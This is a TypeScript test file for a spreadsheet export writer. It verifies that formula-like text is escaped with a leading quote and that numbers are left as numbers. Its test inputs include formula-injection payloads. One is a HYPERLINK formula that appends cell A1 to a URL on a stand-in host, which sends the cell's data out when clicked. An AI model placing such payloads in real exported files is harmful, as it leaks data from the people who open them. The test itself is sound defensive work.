import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { ExportRow } from './sources.ts';
import { writeXlsx } from './writer.ts';

/** Writes the rows through the one xlsx writer and reads the workbook back as a spreadsheet would. */
async function roundTrip(values: unknown[]): Promise<ExcelJS.Cell[]> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => out.on('end', resolve));
  async function* batches(): AsyncIterable<ExportRow[]> {
    yield values.map((v) => ({ v }));
  }
  const column = { header: { zh: '值', en: 'Value' }, value: (row: ExportRow) => row.v };
  await writeXlsx({ lang: 'zh' }, { title: { zh: '表', en: 'Sheet' }, columns: [column], batches: batches() }, out);
  await done;
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0]!;
  return values.map((_, i) => sheet.getRow(i + 2).getCell(1));
}

describe('the xlsx writer and formula-like text', () => {
  it("prefixes text a spreadsheet would run with a ' and leaves numbers numbers", async () => {
    const risky = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    const cells = await roundTrip([...risky, -12.5, 0, '-12.50', '+86 138', 'plain', '中=文', null]);
    // (The file's XML reads a CR back as a line feed; the prefix is what matters.)
    const read = cells.slice(0, risky.length).map((c) => String(c.value).replace('\n', '\r'));
    expect(read).toEqual(risky.map((r) => `'${r}`));
    for (const c of cells) expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
    // A negative number is a number cell; a decimal sent as text stays as it was; other text untouched.
    expect(cells[risky.length]!.value).toBe(-12.5);
    expect(cells[risky.length]!.type).toBe(ExcelJS.ValueType.Number);
    expect(cells.slice(risky.length + 1).map((c) => c.value)).toEqual([
      0,
      '-12.50',
      "'+86 138",
      'plain',
      '中=文',
      null,
    ]);
  });
});
